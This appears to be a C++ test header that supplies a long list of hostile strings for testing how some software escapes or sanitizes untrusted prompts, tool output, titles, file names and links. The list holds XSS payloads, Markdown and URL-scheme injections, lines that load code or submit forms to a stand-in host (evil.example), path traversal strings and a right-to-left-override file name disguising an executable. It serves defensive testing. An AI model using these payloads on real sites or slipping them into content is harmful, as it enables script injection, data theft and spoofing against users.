// What attackers write: into prompts, tool output, titles, file names, languages of code, links.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace panko::test {

inline std::string json_escaped(std::string_view text) {
  static constexpr std::string_view kHex = "0123456789abcdef";
  std::string out;
  for (const char c : text) {
    const auto byte = static_cast<unsigned char>(c);
    if (c == '"' || c == '\\') {
      out += '\\';
      out += c;
    } else if (byte < 0x20) {
      out += "\\u00";
      out += kHex[byte >> 4];
      out += kHex[byte & 15];
    } else {
      out += c;
    }
  }
  return out;
}

inline std::vector<std::string> hostile_payloads() {
  std::vector<std::string> all{
      // elements
      "<script>alert(1)</script>",
      "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<script\n>alert(1)</script\n>",
      "<script/x>alert(1)</script>",
      "</script><script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "<img/src=x/onerror=alert(1)>",
      "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
      "<svg onload=alert(1)>",
      "<svg><script>alert(1)</script></svg>",
      "<svg/onload=alert(1)//",
      "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
      "<iframe src=javascript:alert(1)></iframe>",
      "<iframe srcdoc=\"<script>alert(1)</script>\">",
      "<object data=javascript:alert(1)>",
      "<embed src=//evil.example/x.swf>",
      "<base href=//evil.example/>",
      "<link rel=stylesheet href=//evil.example/x.css>",
      "<meta http-equiv=refresh content=0;url=//evil.example>",
      "<style>*{background:url(//evil.example)}</style>",
      "<style>@import '//evil.example'</style>",
      "<form action=//evil.example><input name=p></form>",
      "<input onfocus=alert(1) autofocus>",
      "<body onload=alert(1)>",
      "<details open ontoggle=alert(1)>",
      "<video><source onerror=alert(1)>",
      "<audio src=x onerror=alert(1)>",
      "<marquee onstart=alert(1)>",
      "<template><script>alert(1)</script></template>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
      "<textarea></textarea><script>alert(1)</script>",
      "</title><script>alert(1)</script>",
      "</textarea><script>alert(1)</script>",
      "</style><script>alert(1)</script>",
      "</pre></code><script>alert(1)</script>",
      "</div></article></main><script>alert(1)</script>",
      "<!--<script>alert(1)</script>-->",
      "<!--><script>alert(1)</script>",
      "--><script>alert(1)</script>",
      "<![CDATA[<script>alert(1)</script>]]>",
      "<?xml version=\"1.0\"?><script>alert(1)</script>",
      "<!DOCTYPE html><script>alert(1)</script>",
      "<a href=javascript:alert(1)>x</a>",
      "<a href=\"java&#115;cript:alert(1)\">x</a>",
      "<x onclick=alert(1)>x",
      "<p style=behavior:url(x)>",
      "<div style=\"width:expression(alert(1))\">",
      "<button formaction=javascript:alert(1)>x",
      "<isindex type=image src=1 onerror=alert(1)>",
      "<keygen autofocus onfocus=alert(1)>",
      "<xmp><script>alert(1)</script></xmp>",
      "<plaintext>",
      "<frameset onload=alert(1)>",
      "<table background=javascript:alert(1)>",
      "<portal src=//evil.example>",
      "<dialog open onclose=alert(1)>",
      "<slot onslotchange=alert(1)>",
      // out of an attribute
      "\" onmouseover=\"alert(1)",
      "' onmouseover='alert(1)",
      "\"><script>alert(1)</script>",
      "'><script>alert(1)</script>",
      "\" autofocus onfocus=alert(1) x=\"",
      "x\" style=\"position:fixed",
      "`onmouseover=alert(1)",
      "\"/><img src=x onerror=alert(1)>",
      "&quot; onclick=&quot;alert(1)",
      "&#34; onclick=&#34;alert(1)",
      "\\\" onclick=\\\"alert(1)",
      "\"\n\tonclick\n=\nalert(1)//",
      "a1\" onerror=\"alert(1)\" class=\"",
      "user\"><script>alert(1)</script><p class=\"",
      // links
      "javascript:alert(1)",
      "JAVASCRIPT:alert(1)",
      "JaVaScRiPt:alert(1)",
      " javascript:alert(1)",
      "\tjavascript:alert(1)",
      "\x01javascript:alert(1)",
      "java\tscript:alert(1)",
      "java\nscript:alert(1)",
      "java\rscript:alert(1)",
      "javascript\t:alert(1)",
      "javascript&colon;alert(1)",
      "javascript&#58;alert(1)",
      "javascript&#x3a;alert(1)",
      "javascript&#0000058alert(1)",
      "&#106;avascript:alert(1)",
      "&#x6A;avascript:alert(1)",
      "&#106&#97&#118&#97script:alert(1)",
      "java&Tab;script:alert(1)",
      "java&NewLine;script:alert(1)",
      "javascript://https://x/%0aalert(1)",
      "javascript:/*http://x*/alert(1)",
      "%6aavascript:alert(1)",
      "\u200Ejavascript:alert(1)",
      "\xc2\xa0javascript:alert(1)",
      "\uFEFFjavascript:alert(1)",
      "feed:javascript:alert(1)",
      "view-source:javascript:alert(1)",
      "vbscript:msgbox(1)",
      "VBScript:msgbox(1)",
      "livescript:x",
      "data:text/html,<script>alert(1)</script>",
      "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
      "data:image/svg+xml,<svg onload=alert(1)>",
      "data:image/svg+xml;base64,PHN2Zy8+",
      "DATA:text/html,x",
      "data:application/xhtml+xml,<x/>",
      "blob:https://x/y",
      "file:///etc/passwd",
      "filesystem:https://x/",
      "about:blank",
      "//evil.example/x",
      "\\\\evil.example\\x",
      "/\\evil.example",
      "https:evil.example",
      "http:/evil.example",
      "mhtml:https://x",
      "jar:https://x!/",
      "ws://evil.example",
      "intent://x#Intent;end",
      "ms-msdt:/id",
      "chrome://settings",
      "https://x/\"onclick=\"alert(1)",
      "https://x/'><script>alert(1)</script>",
      "https://x/\njavascript:alert(1)",
      "https://evil.example/?q=<script>alert(1)</script>",
      "mailto:x@y?body=<script>",
      // Markdown that tries to become markup
      "[x](javascript:alert(1))",
      "[x](<javascript:alert(1)>)",
      "[x]( javascript:alert(1) )",
      "[x](java\tscript:alert(1))",
      "[x]: javascript:alert(1)\n\n[x]",
      "![x](javascript:alert(1))",
      "![x](x\" onerror=\"alert(1))",
      "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
      "<javascript:alert(1)>",
      "<https://x\" onclick=\"alert(1)>",
      "[x](https://x \"\" onclick=alert(1) y=\"\")",
      "[x](https://x 'a\"b>c')",
      "```\" onclick=\"alert(1)\nx\n```",
      "```<script>alert(1)</script>\nx\n```",
      "~~~html onclick=alert(1)\n<script>\n~~~",
      "`<script>alert(1)</script>`",
      "    <script>alert(1)</script>",
      "|<script>alert(1)</script>|\n|---|\n|<img src=x onerror=alert(1)>|",
      "# <script>alert(1)</script>",
      "- [x] <script>alert(1)</script>",
      "&lt;script&gt;alert(1)&lt;/script&gt;",
      "&amp;lt;script&amp;gt;",
      "**<script>**alert(1)**</script>**",
      "[<script>alert(1)</script>](https://x)",
      "[![<img src=x onerror=alert(1)>](x)](javascript:alert(1))",
      "\\<script\\>alert(1)\\</script\\>",
      "www.x.y/\"onclick=alert(1)",
      "http://x/<script>",
      "a@b.c\"onclick=alert(1)",
      // bytes
      "\xff\xfe<script>alert(1)</script>",
      "\xc0\xbcscript\xc0\xbe",
      "<scr\xe2\x80\x8bipt>",
      "\xe2\x80\xae<script>",
      "\xed\xa0\x80\xed\xb0\x80",
      "\xf4\x90\x80\x80",
      "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
      "\u0085\u009b31m",
      "\x1b]0;x\x07\x1b[31m<script>",
      "\x1b]8;;javascript:alert(1)\x1b\\x\x1b]8;;\x1b\\",
      "\xf3\xa0\x81\x81<script>",
      "\xe2\x81\xa6<b>\xe2\x81\xa9",
      "\x7f\x08\x0b\x0c<script>",
      "\xef\xbf\xbe\xef\xb7\x90<x>",
      // names
      "report\u202Efdp.exe",
      "../../etc/passwd",
      "..",
      ".",
      "/",
      "?from=x#y",
      "#\"><script>",
      "%00%0a",
      "b/../../x",
      "a b\tc",
      "~1",
      "",
  };
  all.emplace_back("nul\0<script>alert(1)</script>", 30);
  all.emplace_back("java\0script:alert(1)", 20);
  all.emplace_back("<img\0src=x onerror=alert(1)>", 28);
  all.push_back(std::string(400, '<') + "script>");
  all.push_back(std::string(400, '"') + " onclick=alert(1)");
  all.push_back("javascript:" + std::string(5000, 'a'));
  return all;
}

}  // namespace panko::test
